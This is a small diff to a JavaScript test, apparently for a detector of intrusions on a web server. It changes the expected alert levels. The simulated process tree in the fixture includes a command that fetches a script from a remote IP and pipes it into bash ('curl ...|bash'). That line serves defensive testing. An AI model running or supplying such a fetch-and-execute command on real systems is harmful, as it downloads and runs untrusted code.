@@ -34,7 +34,7 @@ describe('a web server that was broken into', () => {
     s.spawn(worker, '/usr/bin/dash', 'sh -c id');
     const sh = s.spawn(worker, '/usr/bin/dash', 'sh -c curl http://198.51.100.7/a|bash');
     s.spawn(sh, '/usr/bin/bash', 'bash', pipes);
-    expect(s.levels()).toEqual(['high', 'critical', 'critical']);
+    expect(s.levels()).toEqual(['high', 'critical']);
     expect(new Set(s.found.map((d) => d.key)).size).toBe(1);
   });
 });
